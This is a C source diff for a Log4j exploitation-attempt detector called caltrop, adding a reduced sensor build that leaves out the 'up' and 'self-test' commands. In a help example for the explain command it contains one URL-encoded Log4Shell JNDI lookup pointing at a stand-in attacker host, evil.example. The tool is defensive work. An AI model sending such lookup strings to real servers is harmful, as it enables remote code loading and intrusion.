@@ -58,9 +58,13 @@ static const enum ct_option_id scan_options[] = {
     CT_OPT_NO_HEADER, CT_OPT_JOBS, CT_OPT_NICE, CT_OPT_COMPARE, CT_OPT_EXPECT, CT_OPT_VERBOSE, CT_OPT_QUIET, CT_OPT_HELP,
 };
 static const enum ct_option_id explain_options[] = {CT_OPT_PROFILE, CT_OPT_DECODE, CT_OPT_JSON, CT_OPT_HELP};
+#ifndef CT_SENSOR
 static const enum ct_option_id up_options[] = {CT_OPT_SAMPLE, CT_OPT_JOBS, CT_OPT_HELP};
+#endif
 static const enum ct_option_id version_options[] = {CT_OPT_VERBOSE, CT_OPT_HELP};
+#ifndef CT_SENSOR
 static const enum ct_option_id help_only[] = {CT_OPT_HELP};
+#endif
 
 static const char *const detect_examples[] = {
     "caltrop detect /var/log/nginx/", "every attempt in these logs, compressed ones too",
@@ -79,13 +83,18 @@ static const char *const explain_examples[] = {
     "caltrop explain '%24%7Bjndi%3Aldap%3A//evil.example/a%7D'", "decoding included",
     NULL,
 };
+#ifndef CT_SENSOR
 static const char *const up_examples[] = {"caltrop up", "the main job on this host, no questions", NULL};
+#endif
 
+/* The sensor (CT_SENSOR) is for hosts that nothing is installed on: it has what answers there and then. */
 static const struct ct_command commands[] = {
+#ifndef CT_SENSOR
     {"up", "", "the main job on this host, no questions",
      "Looks for exploitation attempts in this host's own web, mail and application logs, and in a shipped sample, and shows "
      "campaigns and how attempts spread over time.",
      up_options, sizeof up_options / sizeof *up_options, up_examples, ct_cmd_up},
+#endif
     {"detect", "[FILE|DIR|GLOB|-]...", "find exploitation attempts in logs",
      "Reads logs of any size and format, plain or compressed (gzip, zstd, xz, bzip2, lz4), decodes what a request may be wrapped "
      "in, and evaluates each lookup as every Log4j version would. What it reports would fire, reach JNDI, leak values or is "
@@ -109,13 +118,24 @@ static const struct ct_command commands[] = {
      "Prints how a string is decoded, what each Log4j version makes of it, lookup by lookup, and the grade with its reason. "
      "'-' reads the string from standard input.",
      explain_options, sizeof explain_options / sizeof *explain_options, explain_examples, ct_cmd_explain},
+#ifndef CT_SENSOR
     {"self-test", "", "check this very program on known attacks and harmless text",
      "Runs a built-in set of attacks and harmless strings through the verdict core of this binary, as it stands on this "
      "machine.",
      help_only, 1, NULL, ct_cmd_self_test},
+#endif
     {"version", "", "version, and with -v how it was built", "Prints the version; -v adds compiler, options and libraries.",
      version_options, sizeof version_options / sizeof *version_options, NULL, ct_cmd_version},
 };
+
+const char *ct_program(void)
+{
+#ifdef CT_SENSOR
+    return "caltrop-sensor";
+#else
+    return "caltrop";
+#endif
+}
 
 const struct ct_command *ct_commands(size_t *ret_n)
 {
